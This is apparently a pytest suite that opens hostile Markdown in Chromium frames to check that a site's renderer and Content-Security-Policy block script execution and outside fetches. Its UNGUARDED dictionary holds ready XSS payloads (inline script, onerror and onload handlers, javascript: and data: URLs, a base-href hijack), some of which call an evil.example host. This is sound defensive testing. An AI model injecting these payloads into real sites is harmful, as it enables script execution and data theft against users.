"""Hostile Markdown, opened in Chromium: nothing runs, nothing is fetched. Rendered, it
leaves the site's policy nothing to refuse; as it stands, the policy alone holds it."""

from html import escape

import pytest

from articles.markdown.renderer import render
from tests.slow.hostile.markdown import hostile_cases

ATTACKS = """
  window.pwned = () => { window.ran = true };
  window.alert = window.prompt = window.confirm = window.pwned;
"""

HTML = {"Content-Type": "text/html; charset=utf-8"}
# What the corpus has only in parts: without a policy each of these runs or fetches.
UNGUARDED = {
    "inline script": "<script>pwned()</script>",
    "script from elsewhere": "<script src='https://evil.example/a.js'></script>",
    "script as data": "<script src='data:text/javascript,pwned()'></script>",
    "handler": "<img src=x onerror=pwned()>",
    "frame with a script": "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "script address": "<iframe src='javascript:parent.pwned()'></iframe>",
    "drawing": "<svg onload=pwned()></svg>",
    "style": "<style>@import 'https://evil.example/a.css';</style>",
    "picture": "<img src=https://evil.example/a.png>",
    "object": "<object data='https://evil.example/a.html'></object>",
    "base": "<base href='https://evil.example/'><script src='/b.js'></script>",
}

# No policy keeps a link or a form from leading to another page: the test stays.
STAY = """
  for (const type of ["click", "submit"])
    addEventListener(type, (event) => event.preventDefault(), { capture: true });
"""
REFRESH = "http-equiv"  # leads away too

# Do to every element what a reader, or an animation, could do to it.
POKE = """
() => {
  for (const { contentDocument } of document.querySelectorAll("iframe"))
    for (const element of contentDocument.querySelectorAll("main *"))
      for (const type of ["click", "mouseover", "focus", "toggle", "error", "load"]) {
        // A plain link may lead elsewhere once it is clicked; script may not run.
        if (type === "click" && /^(https?|mailto|tel):/.test(element.href)) continue;
        element.dispatchEvent(new Event(type, { bubbles: true, cancelable: true }));
      }
}
"""
FRAMES = """
() => [...document.querySelectorAll("iframe")].map(({ title, contentWindow: frame }) => ({
  name: title,
  opened: frame.location.href === "about:srcdoc",
  ran: Boolean(frame.ran),
  marked: Boolean(frame.document.querySelector("main [name], main [style]")),
}))
"""


@pytest.fixture
def open_frames(page, site):
    """Opens each text as a document of its own, in a frame of one page whose policy it
    inherits, and pokes it. Returns what became of each, and the addresses that were
    asked for; none is answered."""

    def open_all(texts: dict[str, str], policy: str = "") -> tuple[list[dict], list]:
        asked = []
        frames = [
            f'<iframe title="{name}" srcdoc="{escape(f"<main>{text}</main>")}"></iframe>'
            for name, text in texts.items()
        ]

        def answer(route) -> None:
            if route.request.url == f"{site}/frames/":
                headers = HTML | {"Content-Security-Policy": policy}
                route.fulfill(body="<!doctype html>" + "".join(frames), headers=headers)
            else:
                asked.append(route.request.url)
                route.abort()

        page.on("dialog", lambda dialog: dialog.dismiss())
        page.add_init_script(ATTACKS)
        page.route("**/*", answer)
        page.goto(f"{site}/frames/", timeout=0)  # there are many
        page.evaluate(POKE)
        found = page.evaluate(FRAMES)
        assert [each["name"] for each in found if not each["opened"]] == []
        return found, asked

    return open_all


def names(found: list[dict], what: str) -> list[str]:
    return [each["name"] for each in found if each[what]]


def test_hostile_markdown_runs_nothing_and_fetches_nothing(open_frames):
    cases = hostile_cases()

    found, asked = open_frames({name: render(text) for name, text in cases.items()})

    assert names(found, "ran") == []
    assert names(found, "marked") == []
    assert asked == []
    assert len(found) == len(cases) >= 200


@pytest.mark.lets_the_policy_refuse
def test_what_no_sanitizer_has_seen_is_held_by_the_policy_alone(
    page, site, client, open_frames
):
    policy = client.get("/about/")["Content-Security-Policy"]
    cases = {
        name: text
        for name, text in (hostile_cases() | UNGUARDED).items()
        if REFRESH not in text.lower()
    }
    page.add_init_script(STAY)

    found, asked = open_frames(cases, policy)

    assert names(found, "ran") == []
    assert [url for url in asked if not url.startswith(site)] == []
    assert len(found) == len(cases)


def test_without_a_policy_each_of_these_runs_or_fetches(open_frames):
    found, asked = open_frames(UNGUARDED)

    fetched = {url for url in asked if "evil.example" in url}
    assert len(names(found, "ran")) + len(fetched) == len(UNGUARDED)
